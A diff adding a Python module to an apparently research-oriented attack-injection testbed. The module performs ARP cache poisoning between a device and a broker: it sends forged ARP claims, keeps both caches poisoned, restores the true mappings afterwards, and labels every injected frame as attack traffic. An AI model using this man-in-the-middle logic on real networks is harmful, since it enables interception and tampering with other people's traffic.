@@ -1,0 +1,83 @@
+"""The ARP caches of a unit and the broker: poisoned, kept so, restored."""
+
+from dataclasses import dataclass, field
+
+from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
+from coldaisle_contracts.taxonomy import Role
+from coldaisle_injector import frames
+from coldaisle_injector.notes import Notes
+from coldaisle_injector.segments import Arp
+from coldaisle_injector.wire import Wire
+
+RESEND_NS = 250_000_000
+"""A claim nobody answered is repeated after so long, ns of wall time."""
+_OURS = bytes.fromhex(INJECTOR.mac.replace(":", ""))
+_IS_AT = 2
+
+
+@dataclass
+class Caches:
+    """Who a unit and the broker believe to be at each other's address.
+
+    Attributes:
+        unit: the victim.
+        wire: the attacker's socket.
+        notes: where every frame is noted.
+        taken: whether both believe it is the attacker.
+        unanswered: addresses of those who have not yet answered a claim.
+    """
+
+    unit: Host
+    wire: Wire
+    notes: Notes
+    taken: bool = False
+    unanswered: set[str] = field(default_factory=set)
+    _claimed_ns: int = 0
+
+    def take(self) -> None:
+        """Claim the unit's place at the broker and the broker's at the unit."""
+        self.taken = True
+        self.unanswered = {self.unit.ip, BROKER.ip}
+        self._claim()
+
+    def insist(self) -> None:
+        """Repeat claims nobody answered for :data:`RESEND_NS`."""
+        if self.unanswered and self.notes.times.wall_ns() - self._claimed_ns > RESEND_NS:
+            self._claim()
+
+    def restore(self) -> None:
+        """Tell both where the other really is."""
+        self.taken = False
+        for victim, owner in self._sides():
+            frame = frames.arp_restore(INJECTOR.mac, (victim.ip, victim.mac), (owner.ip, owner.mac))
+            self._send(frame, victim, "restore")
+
+    def on_arp(self, arp: Arp, frame: bytes) -> None:
+        """Take an answer to a claim, or answer a question about the other side."""
+        victim, other = self._sides()[0 if arp.sender_ip == self.unit.ip else 1]
+        if not self.taken or (arp.sender_ip, arp.target_ip) != (victim.ip, other.ip):
+            return
+        to_us = frame[:6] == _OURS
+        if to_us:
+            self.notes.frame(frame, victim, Role.CONSEQUENCE, "reply", attack=True)
+        if arp.operation == _IS_AT:
+            self.unanswered.discard(victim.ip)
+        elif to_us:
+            self._send(frames.arp_answer(INJECTOR.mac, (victim.ip, victim.mac), other.ip), victim, "poison")
+        else:
+            self.take()
+
+    def _sides(self) -> tuple[tuple[Host, Host], tuple[Host, Host]]:
+        """Return each victim with the host it is to be kept from."""
+        return (self.unit, BROKER), (BROKER, self.unit)
+
+    def _claim(self) -> None:
+        self._claimed_ns = self.notes.times.wall_ns()
+        for victim, claimed in self._sides():
+            if victim.ip in self.unanswered:
+                frame = frames.arp_claim(INJECTOR.mac, (victim.ip, victim.mac), claimed.ip)
+                self._send(frame, victim, "poison")
+
+    def _send(self, frame: bytes, victim: Host, act: str) -> None:
+        self.wire.send(frame)
+        self.notes.frame(frame, victim, Role.INJECTED, act, attack=True)
